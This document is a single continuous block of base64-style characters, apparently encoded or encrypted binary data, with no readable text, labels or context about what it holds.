pw2KYJVxnWBJOpB4OTnPEu6+MHuLaK53JA8sirOMW9BUgmACPJAf/wSCrrLbtRi9zKF7JO2MuWdVrfiKzpquDgRHY3rCzUCSe/n8qdYvgbHtVCLRdf5zZNdp17AgXabrvJ77jd16Lhod/bLq1unxr2VZcISO2oQLZZuTpmi0vzkxR2RhyRO781Bz03vv84XJzAvCohtkEW0NiTuAqw+Mr+5r3wGgKClG5gI+bsy+MDgpo3VtE7cl6HfGGAWw8uqZgBqGJl1PI24xapUy28SZFPb0nJABw/4oR93X/MhE7bU4zkNhmmcMXyKBQKD1tOcezWLdUXTFJLoKDoL4SiF6adpfJ8l5S85aYD+LOhxLimCSDj+8N6Igx8fRzeZrK/mjrvZzvw2p8yqOtvlYlQsrVyD5BVXrhPIrTh9mz0MBQZ4vY+DLT67gruCXSb+asDr4LjDy/LxXYMZE7yVugsTRQ7eC66EnH5KM6yK8kwvw74WuO2abrNMYPRqpNZStM1L0tcWBIvUdxCd+IlkfjuJIbCEc7O8QUGUZtWJ0IzbY0enpfR4ZK0alVQpjdwB0fSLeCNk+aQ3V6azW5T51d5QsAj/4BX/wdkflYTfyHSCbaPdRIn86E4upxpX1c+cfQNjn9e8VfkybwD+IKepDkitHQMKAq9mq2+lhdM5JJoYfZZrgzWvG6MYlY/7Zi7rQcxSyWwjeNjBN6yCiwMSWkC0L9+rUtf3ZeYK3bIurWlZoQiwSvhmqo9WB9L3FtZp9rGoRjAQuMq6ij0tqM+0KAU427MypAPnpQj38Yf9TnnSdGKdDRl47X7zhld68ld8G6OhdkdI+kIzZGt/CFl2u/PvclwSaCFHdewqxGBp5lhE7NblE/fvl8DAJXyEvN0N3hkkP/h+9YZ78tmYN8khzF65YNjVO+OT+luHjDyImbmjN9fWg6/DOGlMLkmgiQQtUAk6OtEdcJ83Mkn+6rDopY7+xVH+bB3LevfX6PSZZa8hBJNWqvU7SpmWs4brFyx4tkL9HLwnK9m8/4LXzf+eLhYolIlgMmgnceg6t6gUwCjjw8GW2f+zjozYyd6dktIq0kr1i3Vz0Q9ALs22uHbCnFm76+gpnfo6UsbywHW/nTAJdGhWPH8yKsgFKjmxYXVjgBBe8HXc3kSxsb9QV20m5HRO50XXlMdjO/GQnljcRIE3U0tKvOB1wuTDyFoY+be5H8Z046xXf1sUuRtjO/vjalEMtGcTy+zzwvBDqiH0nLnZKF3gjzZbNQRm5CLmNYriRcgwIO6jLT7/cMXD8B8lL+ueqy9rMiRvfVF4mSMbDe4H/Ucv131F6M8teUyVg2CrooF9/AcSqMFoStU8I+l/Oz2LoJJoIvZXxGVbLpuM88m/37i5NhlGJV1e7C5V0j/O7UmfxwHT0rkAh5X08nHPxfCpZoXd/ufZgwh5OYFynveb0Z/ITwqnAIW2U7HzC1K4wfkdlaUpryZM4smWtp0uA3liJvep2ingfuNddHj+kdH7mMMRdYp2urFPSSbsNe2QG1R4nMvmCXkc7i/8ajQanL/tYfCCTJnzTYoOakeTx1PWAhmn9X9ghOICd7zRpCmxuCOiA9KLnke4RXaMu6Tkh3VqwygtB07LDzF5jdykh+8F+1ZxIeKBp2exes2BCHl//8ujx2bm2ppdbkgs+gai5BRWyAcCYbWjSgfLvIrzPRI9BJMNQQNw+7ehQAAn3Y9scU/UskA3pSrAPb5CX+hV+yzIbXmOtIu0O08iD5NTtrOaRKLHAVkIT9+6UcZQDcUk2AG7NPRmpwEFM0LADDY+o624Ae08Gu38mdaPAKUfP8N6k++sDuv1+Ss9FkuQuvIg6SaBQp1/7g8ApPSeLOEmVzYW/gd8HEGzMn2DnBR7zrgrZWYmZvVPPKY5wh37BF9P1eBPtBtfDHzzQ+6+oCNcowEAfeXP6I6wgNrozQ0ug71ldf2csKIdQND36zQBLo8Bm8MljRTBF1VcZIbycV43FiP73dW/4yDBKvunBjfHxHO7T2+ZRli9d0lUnIq/9lkAzF0Nk7ibt6sXSuQuyXFXRCUAO3p+iGcyaXDcb7I8RWOjA38j08nwWfqRE2RDSTEajJKQaAqN6HuyMi2S6Sq6mqhlJ+FQRIDGnfpTKbPIPsr8O9tzZw5ygZMFsV4koMrsZf/o9Cw3anD7+qvuUUbqOsyyipTI4bj0sLOS/cgVk9V2hYhH/1IYeeD52uODHOPkU7LEci8Uh92WN2y41jZkGd8RQFENbciur51+psaPIHNtkWXQELGPmlAkLb92t+WL959IkHSfYe9N4cgItQq2Ob99yDo2oImmID4Y9PGqv6lhf9RiqLUXRcd5n8GOMKgI13zDqp4D6sKcRUxYnifYoPAhgnqGQdEM/ZEnb93dIZM5sfaD9CEW3uZJoFJ4QH2sgbrSAwfWcrSA8NC7ixzlduTLbRFHxXXxzXT858LqxOPXBETmgEJpRpYSg12GQuLZQhfNwE6W8aLoCJXX8suv3aCMzSqerJjruKaPaJKRJWkIlSI1dg8qR2zAMl5Dy5Sf6TDVxA5BBw2SA+eyVHHlEHWXEmGO7h+L/XqWM95uTXYbZHXPhliTxyHKo1Yay5m+22uUh96gGT3HtB3rznBaCmxhMx8bN3SD2MoHde1usL2AH7OhXI76ChSsBZ4KLjMXLylmCCE/PcvnCsHcD+f9GzkgayfCedocU+ToIbDc1fUIcVTqMPpvz+i1uFSGKyjhJSqZNgbDj/wKB9UcJ8MV21Z8hoEhjJLPM0tFVnKDYcPG0Uexe3ZciqaQai0Y3foOW3S0nAxezB5TE440nymfkmm2CP3N3LAsiv2tPvYwq/RFzSIWzkglDhMC6oGwtvEG0oOV0QwD7JJy4XPgjgKtIy5yLAXZkGQnywXrPor5zoC2VauduB6NEhgYIPBzmBMbu3kZS7nl7KAFZPP0CTtosdz2fUiVRPv/0FuDZ3WNU/3w4lEJnGjdCOhTFY7DCApuO3E1T7IOVrR0q1ZixvoTIvDghE0CLdlqRARuUSYKcemvrYyfGfz0WS+s3sRfyGqZ/1DFjuYWtijlwwGK3xhkr7V4ayrEcRn6Aux07ZKWc0ouGVdvhLycf7DTVuOgVpyKMJrgl7HZ6HPshDQCHDzgMjupsB0K1UWY4WahyzfYXxjm+RjxPRpxqDStyzMVCyu93JGJ+aaBy4Nvc86zaZ/UoeSpsyQiZusyF+NA25RiPnE5TiJX0e7zfPzlWsQ6G+qRDYO7rd9vFwJePEF5PqPShvNCgBAukMo4UP76I4IV2NxHpOrSOk8bQV4UbP8S4OYqW8zg+/A3E3B8+ybk8zy3A0L2+qplg4djR9DDdV0xlNj3kUZgyHUAaMEH44Im8CwLxAF0gHcMHImnfLhm93JvsLQ0b4H7MMtBkysV0ub45X3gPDmEZ5iPLyA5x7YL+V3hxOWsvmnAtkmZEa8O/Z1D9TlSqTwfk8PcIPWmAP1l3DstGHqfz5asRuXkgk6wcq57SoOa9gN5EO1vXAw7kutuTefoxTh2Gg2oSebsEavP6PYbMVq/K8z8bjUM+vRBEvWsWYkussMDibJdXSp6vSh/jlu6UzHwSiniwaQMIc/Zs0ID8NvM4uVz5OU+FH4XruM8ZmBmSJJlMe2DhUzXs9gf+3lI4KnVEHuMxF2Dkd7SSt5jVgqn+UU5pmanZNVlZup3hvUJCao+82Va25Q1cZlhi3TSZJIfmF1j0ophj2L5LCxUGsTDmXyCXJeKyE+F5ttDXPTw+FUY1T8YunAFfOj1lfttI9J29D99cMNz5Ohds2DWSKTcgQ/TwEhRNPspgGvismZF+E28PpeRq0lBGEz3l98UKOLQ5C9uW4TGJRxGS2kZaufMe8ILsbKf1/TuI9Cntx1uGoudXU1f2HM7vUxFS11sBXRPmcxC8iCwDZmauPGOnvS1OgHMXsB+Bkr2+kcIT3HoVZ5eXiYkHisCOG22hRL14NqDUpD0WBUJAtXFbY4S0pmZHHwW9JkDU1blYBwtgQZc8NE8asdA8aQl2QM/6wyjr+c1slJ2uL1FW9MTeGMK5fywdw0x2NCVPcQNdJtLpORzI9j5tQTm0KmrsgkITVx3A6HTUmnuZ3RvZ268fs3os4oWz2qv6fWySB+zVo284BJBNuqH1cCqf5wtDDwY4BadTDep814VJ2r0QkmgzBOKjhqDpZmYy5wTEYIR/0Xl0fp7mFFQw9UkUoAgrg4Fqb3DU+Z3VtaKhepz5X79pRXpi5fNZWdoWVPe9rXg6R9ByESd+AKuZxClCyh3ZjqG73KUMABIIoTUXVIJ4L468AxPqSvgvjeVd29UCYUARMR9rfcnkvORa8bC5rSJXsTGIgI3WC1hPXrSsO12WckbUOQ21/IQRs+euMAYD6A3vIvhOWN+B/ygWCrKrsyuBllvtnMtTSYzILmHuLR365vJ+VHAeTfmtmN2ST2k54QuQU/RNq6HYiU3u51w1a3dw1aGVnxURVvshNIH4hw7PnSAUzuAvbzu3gF0qWI8UHblwLruLXn2Pjr/+4CkeQFFC2cCsKfRFBYC8zfoZzhcHeCCStFrLJRRwNCCiQMD+njm0sZmFagXacT9pZLjP+a1jCibz2jsI7j6fy2Z6hVPePishBfrOrPZNI/7p6vCSvmnwC6lDERQQtGhWKWN7tOiM7KR1dSkG6ZEV/m6sIkDuZ1Lcre1dmT5j9BYN1N+eVhaYZFgH15Lkmf3G/erb+5OPFqcxqSjUGrQ0LrIklSXviwmT03GK6x5wIhQc9Op3RsWN1QWrfTNZf9AIJvspgru0xcTIU+9INSEPlHeRaKG23n1Lnaor3b6Wzfdi/Q537dXbfMYRBVZ8NBtXJ6ZjKxzh+8F9OTvFjO/iukyt3B+f1Y/8msBZ4ITEewcCR62QugNHRlsS3jxwx+QHavo5SObk4qpiT2eD870ipEQ3NmMu2nZH5lCUICK2B7mdwrIf9RpQTvo91ebQbDxYQlX3IM4YPnRyiF/RgO1r1atoslWwJkOAYSsPoSENAb5U7vF7a+gnKR9EYsHDIrVWppNziarnoKh8+8L7/Y31NO11QY/6W+7fiONsmdOdqS0v19JcFS+Uj4rZSGQ5bCabstlmDoYyIcEs7sAKVy3iQ87JvQYoO0yydzYkI7Mk99kJH1r/67EHeu4KXajvtDoKZXJWOb5xqmGPy131KawuDHxNEsxXEL5dHvY8zWXgpnTaOSo7JrDYRES91giRddEOACRI68sSVYb5bmwe1K5Bq7tlyF4wlaGCATiTeVyZSgV9jP5mbEoa21c24CMcsKu3jA3BBGBT/CNrcao5Zo8dIudYmQX6/O2ViYOPkbTCc6qdHJtgs+Csxndo8xUBFOXuNmeHU7Z3C2ZVZZJ4z9LS4akUjXOs5jZV6BiKu8asaFJXuk61N+WcYuMPxrvmhBq6Vo8tPL3xGdjlO7g6N/pVPsqWdS5DdwQbPW2K50YY5GvTMEzyWXyn5jRBtp3PJiCrj7UYTdjnADkBF2DqUbSi4SWYEtjYRuL5oOGuRXHmqn64NPkUmd76mMvTuyJTXgbSv5+Kv3sH/TomBhNpb0qFmKYX10lWQaD7idoc/wFvV9G+7m9l9QrYVYQ2JVzp+GofiUw9IWbF/wyGMtE+dlaBai2G2FG/qXUVyL1e59/nNAgjOqV3jz4DIG0xgf50ez/LpC1WeZ++4oYb/pPoQr68UBaFO09jbTbR5gWS0NDLjgZdZl+LN9NcXaGMOViI0X8kRBBLnkzaDfFo4Vb6/AmZAcPu8t2/FX5luVsd6RtuF8M66wvW+qjdEc4Z56ApMBrGekgX3dCmsiyE4nDcrV7txAb9wPYaAiNo/XhkfoPmt+3dx9m4AxubVPhPAuXnJugMEo+/XPKTR2rsERn/9wIqB5egpPfoiTjAWL4quW0bviqCzFnW2SJqb6xKHbmd4/seXgymR61PZgUhMvPdi5NZmrZ6tL/RJoLhkIz5zlJb3E00Jm8hLqvfUarVwEdvQmhNlNJYHu6IZXlPCLf7V9s0y/Zzdd59Mbdx+x3z3pIGJ40kQ/9M1d4rqQGNZkfnIiB+RIEY+VjflYm0yEFAaElG0E0ftfbKC3fiS31LKiU31hMG4DB0yYqvxgssJhuByyQ0OaXc/WRbBOIMc93VG1O5Kv9QWxzEOSus4zzsfHPoYBbowrxYNsGAuqAUjKJqYCiC4BoHgXv1b5n6Mu+ZjzefnvNkRBkLR7NAioSOy0QCZCDkyn6vRJXbML9D2Art8fyavsk2zTx6I/J20qjx4PIb9d36x3F5SXx0qsH4+jz68DgHnT6YTFwcZPkCHPzK+toIxjQzSiCOsGv53P2htQZlOReL5SXGQ3g1L/Fodg+4ubiVDaeBEYZQBlMRPV/z/uNawT3isz9WVnssyJH34kffKcv60VAGq8mOvpszKkLH81M9nLMK1GWtKYm1JkNkqYRXlVdBmBb+Xj7kip2YTKUVfA6e4LdbjysnkVFxr8VVrkJglH9bNJxSRoUT2yz/wwC1DxLp9nfoCLJfiKplvLhy2NN5Xt5HOSlQijJxlif6R0sCBYd6E1SzhbVaEHPvEdp3BrLUuDaVsS1sa0EJxYopj9UQGSy4/s+qxMHl7CptvO78OcXlaIXemWY19rgdOnsaA7o8px/kLXX5JNfo27HdkbxH8VqdPw7DH+vRhQs8uKxwXz3af3MUxTBNUcgCBdEH6G1ZF8JlZHEWVbVStgBoP/1Yzw3K0EXsvSOIzZ9hTreyIR005+ZkN90l9oaG/Erix8Ozvk3mEEX37M15wvdb1HTYWXGoQ8MWcoPtbcIeoarQ+dkPCHqko8mxwEoKLwr1H/EVX8pV49wPmTfNSSKCZJrk8ZBngIM7h+ZEeWf8e+bgYxK4drPbWsYSTxLe6P5c7+c/M2p67CpFtY62/ZK6cZM3RyYoTLAq3wXMxbsm2EBUUS1z1aBU5OhUFcl+xxAILYPyt42AIoPEfw2wnlz3b+5EpqxlFPqi9hrOyfRplE+CKeg+Z/ttXfvTsXKt01BKMB0zxOTVgF1YWkHD+6nY9hrnkpuMuKNY1vEWTbY7D+4jPvdYe/yMd67ULEY2oLaLynVXC7BxZ7gJTDOdWZ4eg4MliK0OQqgyvyOrhhHzj0djEVvCIgkQYS04PEwpoSaBEvQY45U1O+TSf8+u/1mtWMLmlt0RGgyRKM+5kcvz2h2XFgRCyX43z1cpyK8LfOJQ7Q0SKeFos08l2B5CMh1pA4acG6u7ueKsdm3jXdGx/AMGEOE/3gnOvdRnRyTrSx4S1gCu1paL+IuIsDBtaTYkl6y2rvwfgLM/65V6Z9y1Rp6A0Rb67/sQQN/xZID2+kTRCsdY1wtFq8PTR7L3M/tN2Ta1AY2cRJ9Ux1ERzpkym63gT8i5w5yupk6YK+ecGTUcwt5aGbLw96xI6HOSlFOhYS76RZfDR0gerGFexEN2yC1NIgWCNGn4q5dqLzsRf53xqhKCpbWvL9BzVw2WSgi/3Pox7w8wooMRHMZNWPMGsnVaQBbIla5ILNq4HgzdjTKwu2N/1YWm5P96hIOlVlLzMG9A1bV8uBhvC7rBq7N+9tPOJNl02AJCVoEldGeCyytFkfI2QZlQud6OEmnTNHqbu4hPCe8jzp4JR01R5NjT0aYKickFyXF9cXbaaCKPJttDRfrf39IWCmujsKYi0RvWwD1loFNZILnAcuKmzXWzZ5UyWAZwOMGXB1fYK5SuMk0E7eChwhE9bAKeGJFkLSucVjBhHPZwRPen7Hvy1HlTpZ6Pvg4DQyH/OixPmO3vamQESvQDI/WPEX92/Zi/kB1DfvBpx1jMSXX23ap9ouThLxS+I0Ioiw6C4VQfgYjvkfmS7j3Sz7AFD+LI3EeAFE6qG1zR+TGzIelJiXsEIbE4cyXZDeAukBFmPCyMkToNIdg/RXUMYVDYxA//SgpXxn2PgLPcUjZN6w13VLXibwTPlmp0g9pYVkLt6dutE0E4AE4HX36PeXZOEnVT0GwiLKHoovyxU8ka/jadEPKusXwMxOivMKAeNkzw7DkGaud4CeIH3cgyK+sHpGDxQS/NmWwuY+DyhmGxoo2uOYbdUimyxF0LxsEWcAN3DEAj5u5JmONVmOKOUS7LjdwIwoIej7qzw8XiLZ33Q8Tk+XOfGdX8Xmh2UNB7ZrZV8gQaELr+q0+At5/YND/Mmn8zQLDkojNt7RpW2vsN7ChN4nRjgUjBgKASHflcXDchYjNnhIKZVjJByoNTb9mpVHds+JQGjncvms6hR6S0lLdriAdDMwkRtgP655HBYhybu1ht/PtRipitZRgQwTte2F9BOjWAodQbnh4EUW293F2D2YfLO+pXO8mwDOfnpjrjnUBmQ7h2/v2Rerk/SpBYxMnY2srVGhEa4VgDqYMXr2mUirGv2AlXi6oRHOkmbzO3Otqf8TFLXSP5/wiWKgCO0iNbapyLVeCRlJfLicLQIsu5jjQg0zSAbmuNv1MeV7GVxON8h6rp/qTwIF4JDQvpI0OdyVv8AR8LXYr9/L+iNuk4xfyHXiPqixsU3iHMUsZdqVT3n2yEEQKuXfRmW5zLJYJzItYGK8Lm9JsQYyNsUXrUcxjQsT2gzOZR6OVuUl4ZWwLjWZFCsURZJoZZDEmbWSDjr/n7ft6PkVICeq0T3Yde3nJde3aYuTX1koiEEc80WY0DXR4yeigW3PFLy+ntIh14nlP17s9vbZk6rpBlII4/mBSx3n2Vd5zh/KE/P8XbFY/qs6AN+tLQAAdj+u34C8f5A+6xpXRw+G1Qy65pJZBIZL/a2B9eUQU0eh/eszs/E2zye0pDl6YrEcFyrLET1CteJV3bG0O2/lQX/P27HZYVFOTvGhpYmkUYiWV0yg8sGdQl4uK1kwPv+cBfSARK12MIBcpIgBlZ496Lb+0ix2w6tmSEUuar3c1Os4+5+pPRVLTL6sES7fRkr6+k4qkK5+g/pdeH5aF0m+9FgmERcwL7topwKW5fMIwg9FxcwqN+Etv+j4HljEpLklb8GPWptLNRZ8LoQQcsiNX2q1sfIEudONjCiVPMWD/3Qi4epDzK54mLzWEd3tCVs9dKxCcaR1QIJjtDwbQaj7jJBnrAUpl2SmNbchsU8fkXq5V+ZvR9afIUQz+b4JUl18jOyXZh/bo1/84rrK9EVon8ERTnMrrPXB8lzagdxz4ib7kycg5OUbwHqJuTVZdJBYSQAC80ZlysNK4xdt/tz/RndTWorlI0551dCRjP2mZ2314TM9GXwtT+HE0XCoRMHPpMEBVvUr2eZNhVtRspgg081/ulKC6D0Pjwma0cQ08sNx8pwt7Ex6LbPAJaL9ogtv75PcVkAfb2ZNANqXk7Fpor0GnswGcooyHMUucQahwHSdtT/leIiUULfsbStwfB8KE5K70CR53PJazC+qiwtaqwuc1ghdKM5JTrvKax1Agc61bq72XhmngLlI/KTHJrnB33gENNhQVtikAVUWCLtDcNEAd1Q2zdH9WbFoSGXPKCA1uZhNRz3ezii9Fbhbdrrd+6iMvFe1PcB2otLPj609S0z34s3cwTHsYaV8Qpp71C0G3RGhSdSOHsjxey+cW98bJRcGIvFWc+oq+pi66AB1DMUM+Ur+vgs5QoZC/VBftch5XbvUvhdN/qsfFMUikclnNchCLc4vwGAa+KeOcmtWke4dui6pD9w3XyjZQHxD/n/52UsAZhihtCNW+dDb8Uxd/Dq4Et8PqecWxCsf5Ls65tg6ZlJG5flgB8wZMi7cNmFFibJBfktIQwpPviMw56lxmB1fEtuyLCN6jxwhtU0Q5QEER9wEIxDW+skVPm/HsLVShOPuexdUOI7ucoQOlFAZUDEdBQAC2NeeRfAu0r9AQRe58OZ7Lz62B9sivTmORb7Hwtl/7xg+JxNqsBIVDjaibX/EQphxfZkcUW7n2nmv8ToyFTdPkY/EiHrBDdYv3LZGQk4ZvIDTaIspTzyH6pdvn6IzEattDJ23DUrMyY9/Fb1o0yZTa1t83QW3x9r0MFDs33b+Xw8OR7bbYeORlFaLxtg1S8aVEp4f96Jg/AFk3TJO4SvDsy66VnLKcQnjdyoksRM4+eEs1mpuuGFOV9oJl8C361XhEvaIAO8FBuMjmgtuozjLRrx2uUAm3OHG2XQa94W4zl5qcU6eQ23fZckgYHYQ+K6te4b3XgFUiJuBaJrfCApq7m4kVnwnMkYiVAVir7gglrHidR4PaSvphLdjuRLuOOXYtl2d1KrfLQDe5s2oMlYVazE/5Xk9a+ARkFJkaC0g2xg0tdTTUKQigNGcNA09jSixeg2ivEmuZRsT3A6lpLhldlkWElpN6J00gl9Wi4yzsX/N2+ESIaV6ZucTpxAMx4Fq+ZCKdxNJLB+UMo5sGXWsGXkPcBiFZNIduiplO7m7yAcJuDl42Rtd4IEEhA6Q3OE7XhpoXno0bgkBSaHJMwxC2OcoEgzRtq3+z113LVmtnA9BhmWFourca5ajAQjM5X5qNIfg3K8L3Kl/prvlq0gZPMh7QYlcsXiyQtF5nkKC1xlgi6FQH4jYF+Z149Yc5MiBBJseB1xpPw9PAQ6X5pYdwW7WTrHqZWOaMFTcu3Y7MPmU3EG9nMV7MiXbNqM+za1M58r+vlU6hDMh4sYDSFESODLEFXLMegI3HQ1YGXXvBNFtfN/Zs87bA3SBkv7X2hDLl5Ts99vwsSBauLwzRr5OT0LcweHQzCOfdYjHlY/ChhS4Hcud6wIkwK36mo0Yzz0cYNKjDppH7z4nO6EP76y3nZjZ4fuT8MPjX6dvdc6JEGLSo4WQ3TjzkmwXrLo2JcR1+TbQWn/TIKs6q6vwrriwOc+6h94M3/+OMdFXKPn+anrvLFnYs1lJPb4UcoNA3H5GDnQfXNYWwxLnH/rI2MrH6rLeMCMjWQKCNk0fjVUI6U0F2VVZMmla1CY1sX9XWQtmJNUannBnBy6Ho52rELnGCrCfNOqKVHMNY2FyeO+ZuoUkPYiJZQexPU2r8rL6ano6dO5rz+nt+Q9cotOvFPRu8nXpMD8zhccClVLUlDxF+DKZvDiqpIDnzB3m5q4OCdfO6ME2xZp4YK/x37Viu/woTt//4PTQAlCGS+SqWqHrfSZhzKdDGUolS9pF+y+ZdlI1tba5UCUN6NBmvpl/B+AgLC+Xe5jHUPGNCzNJJjS3MsgEMVHV1hThg13hjO6a61EbSLQBzY2clSoU/qruv16C6BtMB6Zu7QKyw5mvpM2fo6Yf9y6sdR3/7x/KjcJzHDHV3RtNcKuQAtwxEL8DCGx8fBpPWpcgQvg5M+UZESjO+mQl61jUjHezWALNW1eaTK7OhASRFwbwLq7HC38pYHkpuA0D3OSFyP6+wHtHWbitd4XL2C7LPjqV+rO33M/uHSPm72ebF4KYYcbR7xv8eFnoPJBrbEwQk4aFaxmkfYDU/oPUScVk+6GeybZLgWyzQmwPnlj7hTltpU8ncgAnIErJOIEBXFp1u350iKQf/kABFTL5CtLwmMInfPtMwPNRP0uC2LC7zJv9D/mLW0qeXgks9uAhB2zCJD/xwXDMSmKwrW1k8e/TQyVvH/Lx8GeFpXfi1LKlHM0N2OmbmAoCbUn0o7obzeTmfC+o6DceHGMhYfS62T3ug0BpPodX53Vsy61eResrLbVjZyVaYJbD+EjNTszKtyOf7MBkCMYDv5IrcH16+bE2WBs49O5/fPy+vixa72+lcy8IzuiENNfwUCGRiFhltdR0YKvIe65RtABMCXm0OyU6jvrlsWE1bS6AF5bGDXaORAoMtqPNvhM3FOwJSboVBo/Padhy0IQR8s66/BfvyWXxnrVviyTFPNK7eaNjkmQe8rKm2lvcwdFpeDQ8TKkhcwPfFmwxJNcLEe3Tl4O+ybvnZETpmXaBjEQ9BogQjx30aXOSE9SEAxYdjT4BV43sbxMr5LauaAGan1kEHHvjABs9uEoITpMCjO6f8ytReK2kJg85571WhNYTSo9lZCjsKRMFsffNeA0KChvXJINJX1QPvsRfnm+QQXyq+J0GPpzTi1VGeNqHjf1wbToPifxZuR8u5fIUoEe90mk9rLCywmzdjnudJkTZEk8Sx/FgvVIM39gg7x9l918gyiDHNq2sH5w128JEn/RPxkJ6J1k79oHEze+A6CGBuYe7dZ/a02Tsqc4ogB1j4K9g6OKy5QCnobLkl+Ig3zpEVWd1xamJblAWMyQtMeEVK7c9OG67Urj7qu0/X4CYcXmt83vUICFldoWSXA+5LMbiXqh4cdmWBFhOnlJSWDd/BwDgyywEAdljsB+j9UZ/UZdZS0EqD3ACu/3kKlBvg0zf8nt4TJ7A7OJgEyigqcUWLkJ6u5LPz08lurYFq7yN/YjOApTvGkHwFuDW5tHtWUqBmc1s90zn4SulDRNCk6A7SCdBA6pT2FAc+f/G+9jq8Sw9D+NXyrr1ei4E+0C2a4uk2Nvc5PCn3oNRbOH83OrhI1TVI/6Kri3J7P5equCGXvKzIrjQ/EuFqXEdHUhjx9HfsTTXO7mAk/Zw5g+NqeBysIQB5p9m02J4wAJGucPvpDE6RPQzA5JRJYocEb+3TNwYOOdcbj/k68/SU8EI3yMp6qiz/+lham98rtwu8p2MxXpE36X6Q9Rydgq6eHnLbxux9wrzlcdFI1atdYln5r7z5cupYZ/Jr6EI3Fl8/RxJhjqSZSO4f11Li6r+AZSlQUI2KU1UKjtSI8+3XPR9KfMZiadoEHvunnPPYpYFIjwwyfRCV4VauJTPkFSGe8aZMmRJi/SFmd38hKqqt1t/+PEJc3oBIxjfoNMJQBggkpRy8G550SpJ0bT9H14nCvCniTdr3pv9QqZBcebmkgmdgKxBezr9YJk+DN5UVmcAnjjB9QwwBZo97wAW6U/gxiUo9ynxFjdnL8HpJnZP3b5iDay73LhAE63tdiOvhIlMhYBCb/O3y/IOXNe6hUEP8W4nZiD3f9RqN32975IPooX1Wm9NOYGoR3uew7VL+6bsaeLZfUkJI8J1plM098Zh6PbNjZS3TswShfloG+dTbUeZzxMbWRBatD2pNWpOzwupenVd3JR2E3HuSHKTgyDyn9wI5Ro/62b51yDce4zrxlr/O/lrb48wc+l1DxNuCbk+cxRF/a72XJyfl9T04I2PRvtQkWNK0cauxHjJ9ZZmcJLeX4j4yjXFfrkMTZPq8Rr8NMBmlEqW5MLCrPH8OxWH/5pB3TwIMSOzkzMHMOsJgDTswpKmcpVvhwL+84kgC0NQ0GcD9jwUFggTjuFDdIsXCf1JZX8yOAI/YTShddIXTdlPWXTbEzY3+JPliIYofcynpSzhAtEQt6tQgvNSUtpdQshffUN7iR2ZLHac7hZdVgGvMx7Tcs3FO3pyMMOcvSiQePg6w+RCtl6uG+4IJL2NiW9g6pY+HW+YM2EOYICxOBI5iqtHkckvLj5farfH8BBsDd8GqJ3msHv59JktcnCHOE7b0r9epXtIoGshj77Yy4/4CrNNpdEJa7+PToLXyhmorcLoYOvYaHWGqPdZvyZRic4spBrsjGhcDgCjzAh4wOdN4KX8Zfeq/hUqSRBuwjdo6/qjlAl51TqI6zWuUSIRIi7ooSQ4Hadnch83TneCQtkJCPD8vSFBM3Eoh+J9NC6Udpzm5Foec21f+2MsCq7bieeyR8/fkmH5in3yV7je2rinG/R1c1NxzJ1oM21h9gG9qkYX7Yxk+zwB+OXeAoeIckK0mkTQrbo6ANbxkAv91BYYgdUXra+S/RuWqydYDaFhCzLS8gVToexVjjykFefJCQC6VPT7n5orGpCg1yqAK6sQuHvVMP8JfvQrz1qoXa7c3GFWciWCfFb9iesv5ZHiXtBCy3Fv+0GqRP/1tSA469IZCAADIBXR5lNjzIaZOvv5M7SXCmJMwJMF87ZVSNZkj/QSlvagh3kJjCR2cAFUWYRlcxFEgEERRuRQGI0wzto0/5Va17XUcwOyARX1SXZ0rIqHSC0a8zO6LiN0Wo0bJ/8DidKhOnbwXvxLIrB/LgjKttFiiCwIXS4XoNOar76zIQSQ1VZTvf7IFebHZmAKM7uQFjPmKpsaeCwe8ctBeInSjJzBQIEnQIYUY/FkUm2y3n/lFUp91BI4o4PTjsPhr1da2urOZs3BJ+/zUcjjMLfM+W1wfosQk78Pxyn7GOY45i2J19Wq0NEqA5irai9mHbOTr4h6QQwYSfRk/Fj0Dfwn3S5dOOZbNqervxyGiPOsZ9KqM/aWIQ1WreMrEhKY5PlM8JzdoRFM34AuGD532vemPzKgywLPufQH0DfB5DNNSk+yVfKJkdkBXoe5zlLLHrJetTamADuU+JtRPXk54lVaHS28E+Q+FcXMThKODOhZ1aICzigrMRflsacL7NqhInkkI0rcggyjUMw2sVKHbElUqPFtFLpYMCRsSXKzhdx80d05Ra/E4zop46+Yi9H8LElFhErNDsaKw+TDIUyIq7gGufNQGjxhGo5nw6W5zg8sEJ+ZaKcAPNLvo/qkJFV9SU8zeEAJFfn75L40XIB4lDVwIhYsWb0y4IDkQ120omXl6FkYfZvQVN3kQ10MSKPUls2YQ5QoCXE+4uQp0s/o5E83Pd2cJFrlyDJoaWFQCE3X0qro4vCwljpBtB8enHZc9xA2aBtLD/p6/ucxYTShdAGhVpvpEDTOel2OAMcbeY5SpsYyJfVTjD6LaEpPecR9mP5uU9jz4xbJWH6NLQdIYV7QDICZ9cXohVeUx5cx8bTf7mvGSFXlfTh4UWnePXZrShO7Osy3DI6+f551MkNDskkTekwI/nXfaNIoIiz0lejS5JF5Ve58ftk5VhCFP9igaZCQ2G/ORuwbYpY/VwDfJf7+/r029ZahwtGHHdhEvnoXMoYkeZPadWg1D10o5BTc1tTbHJgODlXomhF2XxNrSVejgGCUSDlwA2O1SHBI0LFCNX3J+6r+1JPgrGLlq4F0H0NFz4sJN5hD1+tfrq+zDSD87J88z/oxtg8vDUfOLoY+aYKRwor8TV65+UEBNR0DCX+NZ+IVWSTKrbOiZ3bFgiLC21eG46CI7PKRMvEKWZu13iT6dnsgJ6cw0sGzwlL0oiP0FpraGMX4WUhmC6F5wXbPztBHVV4ea8tjt9pQ/g1JS7w7jbWvRW9THMe5izo5N/phXXftG3bCFF2RTpY1aY8BS0FRI6I1mZxktGlvxRBj8Buasgpqtq3cDSmEhu6Qo4GJ8CbW7eH+pT1u8aRugV2ILa5rWFUctADTgKw+3sfv+ZRK/6FBhaL1ckFZcX1Zb87J3eCzvTm2FgMbIEdOSoqNVd1zIJZoHci5sxVCOGLlMihxy8tb/RSVpC3BrKXGWMT6j5k5+KTOG0Dyk9yk3QylhdpKatrqVsg9ZPbu36kOQM65lEpDrRpn/89FhaYyVok93yK3SHSnjRaHW2xn2lcF0G9lzbVnSKSIkQ2hlXLur9WggFEEvtpQtWqa3i2uOjCL4hQ0o2ULwrHkcE6HDz2h4DZzDyYmTjI0rlTimp78cscXQa/maWzfUygD5UOv6hAB0wmc1MUF6Kj9EDVxWGtpzMNwn0toidiR9EMvWXyXve634WZ3yOF1+codXoDocIWkFkZZ3NVpl8w6htFt6VVPSMCQBy9XGBzGY3yxEOrMzc53aHae13t4bGO6xa9z9ZXkB9A+ShTi0TNdMAzWHyeDicQ1sdFvibUyuhNKH8KSbiWwZ91HT1v+CIg95EweQ9DO5g6d